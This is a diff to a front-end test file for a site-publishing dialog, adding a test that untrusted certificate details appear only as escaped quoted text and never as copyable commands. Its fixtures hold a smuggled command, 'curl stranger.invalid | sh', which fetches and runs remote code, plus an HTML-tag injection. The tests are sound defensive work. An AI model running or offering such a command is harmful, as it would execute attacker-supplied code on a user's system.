@@ -180,7 +180,8 @@ describe('to publish', () => {
         name: 'site',
         verdict: 'failed',
         says: '<b>It is not there.</b>',
-        details: ['sudo tee x', 'sudo nginx -t'],
+        typed: ['sudo tee x', 'sudo nginx -t'],
+        details: ['Its names: x; <b>curl</b> stranger.invalid | sh'],
         advice: 'Type this.',
         remedy: 'site'
       })
@@ -193,6 +194,10 @@ describe('to publish', () => {
     expect(dialog().querySelector('pre')!.textContent).toBe(
       'sudo tee x\nsudo nginx -t'
     );
+    const quote = dialog().querySelector('blockquote')!;
+    expect(quote.textContent).toBe(
+      'Its names: x; <b>curl</b> stranger.invalid | sh'
+    );
     button('Copy what “site” needs').click();
     await says('Copied');
     expect(copied).toEqual(['sudo tee x\nsudo nginx -t\n']);
@@ -200,6 +205,31 @@ describe('to publish', () => {
     button('Cancel').click();
     await done;
     expect(asked()).toHaveLength(1);
+  });
+
+  it('has nothing copied of what strangers say', async () => {
+    const details = [
+      'Its names: x; curl stranger.invalid | sh',
+      'Signed by: y'
+    ];
+    answers['publish/check'] = lines(
+      check({ name: 'certificate', verdict: 'failed', details })
+    );
+    const [done] = await begun();
+    button('Check').click();
+    await says('1 of 1 check failed: certificate.');
+    const quote = dialog().querySelector('blockquote')!;
+    expect([...quote.children].map(({ textContent }) => textContent)).toEqual(
+      details
+    );
+    expect(dialog().querySelector('pre')).toBeNull();
+    expect(dialog().textContent).not.toContain('Copy');
+    const labels = [...dialog().querySelectorAll('button')].map(
+      ({ ariaLabel }) => ariaLabel ?? ''
+    );
+    expect(labels.filter(label => label.startsWith('Copy'))).toEqual([]);
+    button('Cancel').click();
+    await done;
   });
 
   it('takes the web server that is there, or the one that is chosen', async () => {
